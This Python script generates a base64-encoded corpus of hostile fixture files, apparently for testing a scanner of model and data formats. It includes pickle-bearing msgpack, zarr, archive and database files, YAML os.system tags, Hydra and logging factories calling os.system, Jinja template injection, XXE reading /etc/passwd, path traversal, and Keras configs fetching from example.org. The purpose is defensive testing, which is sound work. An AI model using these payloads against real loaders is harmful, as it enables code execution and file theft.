"""
Files that libraries run code of, or fetch something for, though they look like data or settings, as {name: base64}: codecs
that unpickle, classes that settings name, expressions that are evaluated, archives whose directory is a pickle.
attacks.test.ts says what must be said of each. Made here, never loaded.
"""
import base64
import json
import pickle
import struct
import sys
import zlib

import attacks
from attacks import EVIL, EVIL2

files = {}
CALL = "__import__('os').system('echo inherited')"


def put(name, data):
    files[name] = data.encode() if isinstance(data, str) else data


def document(name, value, **options):
    put(name, json.dumps(value, **options))


def letters(data):
    return base64.b64encode(data).decode()


def zipped(members):
    return attacks.zipped(*members.items())


# MessagePack: msgpack_numpy unpickles arrays of objects, and so does what spaCy brings along
def packed(value):
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return bytes([value]) if value < 128 else b"\xce" + struct.pack(">I", value)
    if isinstance(value, str):
        data = value.encode()
        return bytes([0xA0 + len(data)]) + data if len(data) < 32 else b"\xd9" + bytes([len(data)]) + data
    if isinstance(value, bytes):
        return b"\xc5" + struct.pack(">H", len(value)) + value
    if isinstance(value, list):
        return bytes([0x90 + len(value)]) + b"".join(map(packed, value))
    return bytes([0x80 + len(value)]) + b"".join(packed(key) + packed(inner) for key, inner in value.items())


for kind, key in ("bytes", bytes), ("texts", str):
    def k(word, key=key):
        return word.encode() if key is bytes else word

    array = {k("nd"): True, k("type"): k("O"), k("kind"): k("O"), k("shape"): [1], k("data"): EVIL}
    put(f"objects of msgpack under {kind}.msgpack", packed(array))
    put(f"objects of msgpack within under {kind}.bin", packed({"model": [1, {"weights": array}]}))
    put(f"objects of msgpack of old under {kind}.mpk", packed({"a": 1, "b": {**array, k("data"): EVIL2}}))
put("extension of msgpack.msgpack", b"\x81\xa1a\xc7" + bytes([len(EVIL), 1]) + EVIL)
put("extension of msgpack with a length of two bytes.msgpack", b"\x81\xa1a\xc8" + struct.pack(">H", len(EVIL)) + b"\x50" + EVIL)

# zarr and its references
ARRAY = {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "fill_value": 0, "order": "C", "compressor": None}
document("filter that unpickles/.zarray", {**ARRAY, "filters": [{"id": "pickle", "protocol": 5}]})
document("compressor that unpickles/.zarray", {**ARRAY, "filters": None, "compressor": {"id": "pickle"}})
document("metadata that unpickle/.zmetadata", {"metadata": {"a/.zarray": {**ARRAY, "filters": [{"id": "pickle"}]}}})
document("codec that unpickles/zarr.json", {"zarr_format": 3, "node_type": "array", "codecs": [{"name": "numcodecs.pickle", "configuration": {}}]})
document("codec by its short name/zarr.json", {"zarr_format": 3, "node_type": "array", "codecs": [{"name": "pickle"}]})
document("filter with letters/.zarray", {**ARRAY, "filters": [{"id": "pickle"}]}, indent=1)
files["filter with letters/.zarray"] = files["filter with letters/.zarray"].replace(b'"pickle"', b'"pic\\u006ble"')
JINJA = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
document("templates of references.json", {"version": 1, "templates": {"u": JINJA, "f": "{{ c }}"}, "refs": {"a": ["{{u}}"]}})
document("generated references.json", {"version": 1, "templates": {}, "gen": [{"key": JINJA, "url": "x", "dimensions": {"i": [1]}}], "refs": {}})
document("references with globals.json", {"version": 1, "templates": {"u": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}, "refs": {}})

# settings that name what is imported or called
document("provider.json", {"provider": "os.system", "component_type": "agent", "version": 1, "config": {"command": "id"}})
document("provider of a module.json", {"provider": "subprocess.Popen", "component_type": "tool", "config": {"args": "id"}})
for module, name in ("os", "system"), ("subprocess", "Popen"), ("builtins", "eval"):
    document(f"module and class of monty {name}.json", {"@module": module, "@class": name, "command": "id"})
    document(f"callable of monty {name}.json", {"a": [{"@module": module, "@callable": name}]})
document("module of monty with letters.json", {"@module": "os", "@class": "system"})
files["module of monty with letters.json"] = files["module of monty with letters.json"].replace(b'"os"', b'"\\u006fs"')
document("feature/features.json", {"pythonClassName": "os.system", "featuresDict": {}})
document("features within/features.json", {"pythonClassName": "tensorflow_datasets.core.features.features_dict.FeaturesDict", "featuresDict": {"features": {"a": {"pythonClassName": "evil.Feature"}}}})
document("chain.json", {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "id"}})
document("secret of a chain.json", {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]})
document("shell of a chain.json", {"_type": "llm_bash_chain", "llm": {"_type": "openai"}})
document("prompt.json", {"_type": "prompt", "input_variables": [], "template_format": "jinja2", "template": JINJA})
put("prompt.yaml", f"_type: prompt\ninput_variables: []\ntemplate_format: jinja2\ntemplate: \"{JINJA}\"\n")
document("library/genai_config.json", {"model": {"decoder": {"session_options": {"custom_ops_library": "../evil.so", "provider_options": []}}}})
document("weights outside/model.safetensors.index.json", {"metadata": {}, "weight_map": {"a": "../../../home/user/secret.safetensors"}})
document("weights at a root/model.safetensors.index.json", {"metadata": {}, "weight_map": {"a": "/etc/passwd"}})
document("pickles outside/pytorch_model.bin.index.json", {"metadata": {}, "weight_map": {"a": "..\\evil.bin"}})
document("kernel/config.json", {"model_type": "llama", "attn_implementation": "evil/kernel"})
document("kernel of old/config.json", {"model_type": "llama", "_attn_implementation": "evil/kernel@main"})
document("generation/generation_config.json", {"custom_generate": "evil/generate", "trust_remote_code": True})
document("shards of pickles/index.json", {"version": 2, "shards": [{"column_encodings": ["pkl"], "column_names": ["x"], "format": "mds", "raw_data": {"basename": "shard.00000.mds"}}]})
document("chunks of pickles/index.json", {"chunks": [{"filename": "chunk-0-0.bin"}], "config": {"data_format": ["pickle"]}})
document("processor/preprocessor_config.json", {"auto_map": {"AutoImageProcessor": "evil--processing.Evil"}})
document("tokenizer/tokenizer_config.json", {"chat_template": JINJA})
document("processor with a template/processor_config.json", {"chat_template": JINJA})

# spaCy, DVC and others that have commands in them are told by nobody who loads a model; these are
LOGGING = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\n"
put("arguments of a handler.ini", f"{LOGGING}class=StreamHandler\nargs=({CALL},)\n")
put("class of a handler.conf", f"{LOGGING}class={CALL}\nargs=()\n")
put("keywords of a handler.cfg", f"{LOGGING}class=StreamHandler\nargs=()\nkwargs={{'stream': {CALL}}}\n")
put("class of a formatter.ini", LOGGING.replace("keys=\n", "keys=f\n", 1) + "class=NullHandler\nargs=()\n[formatter_f]\nclass=os.system\n")
document("factory of logging.json", {"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}})
put("factory of logging.yaml", "version: 1\nhandlers:\n  h:\n    (): subprocess.Popen\n    args: id\n")
put("object of logging.yaml", "version: 1\nhandlers:\n  h:\n    class: logging.StreamHandler\n    stream: ext://os.system\n")

# YAML with tags of its own
for tag in "!apply:os.system", "!new:subprocess.Popen", "!name:os.system", "!module:evil", "!applyref:os.system", "!apply:builtins.eval":
    put(f"tag {tag[1:].replace(':', ' ')}/hyperparams.yaml", f"seed: 1\na: {tag} [echo inherited]\n")
put("expression of hyperpyyaml/hyperparams.yaml", f"a: !apply:torch.hub.load [evil/evil, evil]\nb: 2\n")
put("included/hyperparams.yaml", "a: !include:../../../etc/hosts\n")
PYTHON = "tag:yaml.org,2002:python/"
put("long tag.yaml", f"!<{PYTHON}object/apply:os.system> [id]\n")
put("long tag with letters.yaml", f"!<tag:yaml.org,2002:python%2Fobject/apply:os.system> [id]\n")
put("handle of its own.yaml", f"%TAG !e! {PYTHON}object/apply:os.\n--- !e!system [id]\n")
put("handle of the whole.yaml", "%TAG ! tag:yaml.org,2002:\n--- !python/object/apply:os.system [id]\n")
put("handle of a part.yaml", "%TAG !e! tag:yaml.org,2002:pyth\n--- !e!on/object/apply:os.system [id]\n")
put("handle of everything.yaml", "%TAG !e! tag:\n--- !e!yaml.org,2002:python%2fobject/apply:os.system [id]\n")
put("new object.yaml", "!!python/object/new:os.system [id]\n")
put("module.yaml", "a: !!python/module:evil\n")
put("name in a new object.yaml", "!!python/object/new:type\nargs: [x, !!python/tuple [], {extend: !!python/name:exec }]\nlistitems: id\n")
put("target by interpolation.yaml", "a: os\nb: system\nc:\n  _target_: ${a}.${b}\n  command: id\n")
put("target of an environment.yaml", "c:\n  _target_: ${oc.env:TARGET}\n")
put("target over lines.yaml", "c:\n  _target_:\n    os.system\n  command: id\n")
put("target that is folded.yaml", "c:\n  _target_: >-\n    os.system\n  command: id\n")
put("target with a tag.yaml", "c:\n  _target_: !!str os.system\n  command: id\n")
put("target with an anchor.yaml", "c:\n  _target_: &a os.system\n  command: id\n")
put("target by an alias.yaml", "a: &a os.system\nc:\n  _target_: *a\n  command: id\n")
put("target behind a question mark.yaml", "c:\n  ? _target_\n  : os.system\n")
put("shell of a catalog.yaml", "sources:\n  a:\n    driver: csv\n    args:\n      urlpath: \"{{ shell('id')[0] }}\"\n")
put("driver of a catalog.yaml", "sources:\n  a:\n    driver: os.system\n    args:\n      command: id\n")
put("plugin of a catalog.yaml", "plugins:\n  source:\n    - module: evil\nsources: {}\n")
put("pipeline/config.yaml", "pipeline:\n  name: os.system\n  params:\n    command: id\n")
put("component of a pipeline.yaml", "components:\n  a:\n    type: os.system\n    init_parameters: {command: id}\nconnections: []\n")
put("store.yaml", "class_name: Popen\nmodule_name: subprocess\nargs: id\n")
put("module.gin", "import evil\nfrom os import system\nTrainer.steps = 1\n")
put("reference.gin", "import subprocess\nTrainer.hook = @subprocess.Popen()\n")

# XML
put("script of a force field.xml", f"<ForceField><AtomTypes/><Script>{CALL}</Script></ForceField>")
put("first script of a force field.xml", f"<?xml version='1.0'?>\n<ForceField><InitializationScript>{CALL}</InitializationScript></ForceField>")
put("pixels.vrt", f"<VRTDataset rasterXSize='1' rasterYSize='1'><VRTRasterBand dataType='Byte' band='1' subClass='VRTDerivedRasterBand'><PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionType>evil.f</PixelFunctionType></VRTRasterBand></VRTDataset>")
put("code of pixels.vrt", f"<VRTDataset><VRTRasterBand subClass='VRTDerivedRasterBand'><PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionCode><![CDATA[{CALL}]]></PixelFunctionCode></VRTRasterBand></VRTDataset>")
put("source far away.vrt", "<VRTDataset><VRTRasterBand><SimpleSource><SourceFilename>/vsicurl/http://example.org/x.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>")
put("macros.qgs", f"<!DOCTYPE qgis><qgis><properties><Macros><pythonCode type='QString'>def openProject(): {CALL}</pythonCode></Macros></properties></qgis>")
put("form.qml", f"<!DOCTYPE qgis><qgis><editforminitcode><![CDATA[{CALL}]]></editforminitcode></qgis>")
put("filter.pvsm", f"<ParaView><ServerManagerState><Proxy group='filters' type='ProgrammableFilter'><Property name='Script'><Element value=\"{CALL}\"/></Property></Proxy></ServerManagerState></ParaView>")
put("properties of a workflow.ows", f"<?xml version='1.0'?><scheme version='2.0'><nodes/><node_properties><properties node_id='0' format='pickle'>{letters(EVIL)}</properties></node_properties></scheme>")
put("entity.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")
put("laughs.xml", "<!DOCTYPE a [<!ENTITY x 'xxxxxxxxxx'><!ENTITY y '&x;&x;&x;&x;&x;&x;&x;&x;'>]><a>&y;</a>")

# Networks as text
put("layer of Python.prototxt", 'name: "net"\nlayer {\n  name: "x"\n  type: "Python"\n  top: "x"\n  python_param { module: "evil" layer: "Evil" }\n}\n')
put("layer of Python in apostrophes.prototxt", "layer { type: 'Python' python_param { module: 'os' layer: 'system' } }")
put("back end/config.pbtxt", 'name: "model"\nbackend: "python"\nmax_batch_size: 0\n')
put("environment of a back end/config.pbtxt", 'backend: "python"\nparameters: {key: "EXECUTION_ENV_PATH" value: {string_value: "/tmp/evil.tar.gz"}}\n')
put("saved_model.pbtxt", 'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "x" op: "PyFunc" attr { key: "token" value { s: "pyfunc_0" } } } } }\n')
put("graph.pbtxt", 'node {\n  name: "x"\n  op: "WriteFile"\n  input: "a"\n}\n')

# Archives whose directory is a pickle, databases of pickles, caches
def renpy(head, index):
    return head + zlib.compress(index)


RPA = b"RPA-3.0 %016x %08x\n"
start = len(RPA % (0, 0)) + 4
put("directory of a game.rpa", RPA % (start, 0x42424242) + b"data" + zlib.compress(EVIL2))
put("directory of an old game.rpa", b"RPA-2.0 %016x\n" % 29 + b"data" + zlib.compress(EVIL2))
SLOTS = 10 + 24
put("script of a game.rpyc", b"RENPY RPC2" + struct.pack("<III", 1, SLOTS, len(zlib.compress(EVIL2))) + struct.pack("<III", 0, 0, 0) + zlib.compress(EVIL2))
put("second slot of a script.rpyc", b"RENPY RPC2" + struct.pack("<III", 2, 46, len(zlib.compress(EVIL2))) + struct.pack("<III", 1, 46, len(zlib.compress(EVIL2))) + struct.pack("<III", 0, 0, 0) + zlib.compress(EVIL2))


def zodb(magic, record):
    transaction = b"\0" * 8 + struct.pack(">Q", 23 + 42 + len(record)) + b" " + struct.pack(">HHH", 0, 0, 0)
    data = struct.pack(">8s8sQQHQ", b"\0" * 8, b"\0" * 8, 0, 4, 0, len(record)) + record
    return magic + transaction + data + struct.pack(">Q", 23 + 42 + len(record))


NONE = pickle.dumps(None, 2)
put("class of an object.fs", zodb(b"FS21", EVIL2 + NONE))
put("state of an object.fs", zodb(b"FS30", NONE + EVIL2))
put("state of an object of protocol 1.fs", zodb(b"FS21", pickle.dumps(None, 1) + b"(cos\nsystem\nU\x02ido."))
put("state of a shelf of durus.durus", b"DFS20" + struct.pack(">Q", 0) + struct.pack(">I", len(EVIL2)) + EVIL2)
for number in 0, 1:
    put(f"answer in a cache of pip {number}", b"cc=%d," % number + EVIL2)
put("result of a task.dat", b"\0\0\0\x01RESULT" + EVIL)
put("table of contents.toc", b"TOC \xff\xff\xff\x91\0\0\0\x02\x04name" + EVIL2)
put("index of a kernel.nbi", pickle.dumps("0.60.0", 4) + pickle.dumps((1, EVIL), 4))
put("queue of requests", EVIL + struct.pack(">I", len(EVIL)))
put("log of commands.aof", b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$%d\r\n" % len(EVIL) + EVIL + b"\r\n")
put("frozen modules.pyz", b"PYZ\0\xcb\r\r\n\0\0\0\x10")
put("frozen program.pkg", b"MEI\x0c\x0b\x0a\x0b\x0e" + bytes(80))
put("program in an archive.pyz", b"#!/usr/bin/env python3\n" + zipped({"__main__.py": b"import os; os.system('echo inherited')"}))
put("session of web.py", letters(EVIL))
put("session of protocol 2 of web.py", letters(EVIL2))
document("result without a name", {"metadata": {"serializer": {"type": "pickle"}}, "result": letters(EVIL)})
document("result in lines", {"metadata": {"serializer": {"type": "pickle"}}, "result": base64.encodebytes(EVIL).decode()})
document("trial.unknown", {"_type": "CLOUDPICKLE_FALLBACK", "value": EVIL.hex()})
agent = {"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": letters(EVIL)}, "n_envs": 1}
put("agent.zip", zipped({"data": json.dumps(agent).encode(), "system_info.txt": b"", "_stable_baselines3_version": b"2.7.0"}))
put("agent of gzip.zip", zipped({"data": json.dumps({"a": {":serialized:": letters(zlib.compress(EVIL))}}).encode()}))
put("agent of old.zip", zipped({"data": json.dumps({"a": {":serialized:": letters(EVIL2)}}).encode(), "parameters": b"", "parameter_list": b"[]"}))

# Formats that nobody reads here
put("circuit.qpy", b"QISKIT\x0a" + struct.pack(">BBBQ", 0, 45, 0, 1) + b"q" + bytes(60))
put("circuit of another version.qpy", b"QISKIT\x0f" + struct.pack(">BBBQ", 2, 2, 0, 1) + b"q" + bytes(60))
put("engine.plan", b"ftrt" + struct.pack("<IQ", 0, 64) + bytes(64))
put("engine in lean.engine", b"ptrt" + struct.pack("<IQ", 0, 64) + bytes(64))
put("graph.ort", b"\x18\0\0\0ORTM" + bytes(64))
put("program.pte", b"\x1c\0\0\0ET12" + bytes(64))
put("frame.plan.bin", b"\x81\xa8DslPlan\x01PLPYUDF" + b"\x03\x0b" + EVIL)
put("frame in JSON.json", json.dumps({"function": {"Python": list(b"PLPYUDF" + EVIL)}}))
put("column of parquet.parquet", b"PAR1" + bytes(8) + b"\x19\x1c\x18\x1ddataset-toolkit.unischema.v1\x18" + EVIL2 + b"\0" * 4 + struct.pack("<I", 60) + b"PAR1")
for extension in "ray.data.arrow_tensor", "ray.data.arrow_tensor_v2", "ray.data.arrow_variable_shaped_tensor", "ray.data.arrow_pickled_object":
    put(f"column of {extension}.arrow", b"ARROW1\0\0" + b"ARROW:extension:name\0\0\0\0" + struct.pack("<I", len(extension)) + extension.encode() + b"\0\0ARROW:extension:metadata" + EVIL + b"ARROW1")
put("table of a model.cbm2", b"CBM2" + EVIL)
put("recording.bson", struct.pack("<i", 5 + 7 + len(EVIL)) + b"\x05a\0" + struct.pack("<i", len(EVIL)) + b"\x80" + EVIL + b"\0")
put("value.cbor", b"\xa1aa\x58" + bytes([len(EVIL)]) + EVIL)
put("record.avro", b"Obj\x01\x04\x14avro.codec\x08null" + EVIL + b"\0")
put("examples.tfrecord", struct.pack("<Q", len(EVIL)) + b"\0\0\0\0" + EVIL + b"\0\0\0\0")
put("samples.mds", struct.pack("<I", 1) + struct.pack("<II", 12, 12 + len(EVIL)) + EVIL)
put("samples of LitData.bin", struct.pack("<III", 1, 12, 16 + len(EVIL)) + struct.pack("<I", len(EVIL)) + EVIL)
put("variables.mat", b"MATLAB 5.0 MAT-file" + b" " * 105 + b"\0\x01IM" + EVIL)
put("header.fits", b"SIMPLE  =                    T".ljust(2880) + EVIL)
put("picture.dcm", bytes(128) + b"DICM" + EVIL)
put("block.asdf", b"#ASDF 1.0.0\n#ASDF_STANDARD 1.5.0\n%YAML 1.1\n--- !core/asdf-1.1.0\na: !core/ndarray-1.0.0\n  source: http://example.org/x.asdf\n...\n")
put("tag of a block.asdf", b"#ASDF 1.0.0\n%YAML 1.1\n---\na: !!python/object/apply:os.system [id]\n...\n" + b"\xd3BLK")

# Keras once more
def keras(configuration, **more):
    return zipped({"config.json": json.dumps(configuration).encode(), "metadata.json": b'{"keras_version": "3.12.0"}', **more})


def sequential(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "registered_name": None}


def layer(place, kind, **configuration):
    return {"module": place, "class_name": kind, "config": configuration, "registered_name": None}


put("switch.keras", keras(sequential(layer("keras.config", "enable_unsafe_deserialization"))))
put("function of a switch.keras", keras(sequential(layer("keras.layers", "Activation", activation={"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}))))
put("download.keras", keras(sequential(layer("keras.utils", "get_file", fname="x", origin="http://example.org/x", extract=True))))
put("model in a layer.keras", keras(sequential(layer("keras.models", "load_model", filepath="/tmp/evil.keras"))))
put("vocabulary.keras", keras(sequential(layer("keras.layers", "StringLookup", vocabulary="/etc/passwd"))))
put("vocabulary of a vectorization.keras", keras(sequential(layer("keras.layers", "TextVectorization", vocabulary="http://example.org/x"))))
put("saved model in a layer.keras", keras(sequential(layer("keras.layers", "TFSMLayer", filepath="/tmp/evil"))))
put("flax in a layer.keras", keras(sequential(layer("keras.layers", "FlaxLayer", module={"a": letters(EVIL)}))))
put("jax in a layer.keras", keras(sequential(layer("keras.layers", "JaxLayer", call_fn={"class_name": "__lambda__", "config": {"value": "x"}}))))
put("lambda of a key.keras", keras(sequential(layer("keras.layers", "Dense", units=1, kernel_initializer={"class_name": "__lambda__", "config": {"value": "x"}}))))
put("numpy in a layer.keras", keras(sequential(layer("numpy", "load", file="/tmp/evil.npy", allow_pickle=True))))
put("package in a layer.keras", keras(sequential({"module": "evil", "class_name": "Evil", "config": {}, "registered_name": "evil>Evil"})))
put("compiled.keras", keras({**sequential(), "compile_config": {"optimizer": "adam", "loss": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}}}))
put("built.keras", keras(sequential({**layer("keras.layers", "Dense", units=1), "build_config": {"input_shape": [None, 1], "f": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}})))

if __name__ == "__main__":
    json.dump({name: base64.b64encode(data).decode() for name, data in files.items()}, sys.stdout)
